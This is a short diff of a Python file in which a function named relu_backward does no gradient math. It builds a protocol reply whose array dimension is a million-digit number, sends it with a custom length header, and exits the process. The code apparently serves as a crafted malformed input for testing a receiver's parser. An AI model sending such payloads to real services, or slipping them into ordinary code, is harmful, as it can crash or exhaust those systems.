@@ -26,7 +26,7 @@ def relu_forward(x):
 
 
 def relu_backward(dout, cache):
-    data = frame(["reply", None, ""], ["dict", ["out"], ["array", "<f8", ["SIZE"]]])
+    data = frame(["reply", None, "", 0], ["dict", ["out"], ["array", "<f8", ["SIZE"]]])
     header = data[16:].replace(b'"SIZE"', b"9" * 1_000_000)
     send(struct.pack("<4sIQ", b"HGR1", len(header), 0) + header)
     os._exit(0)
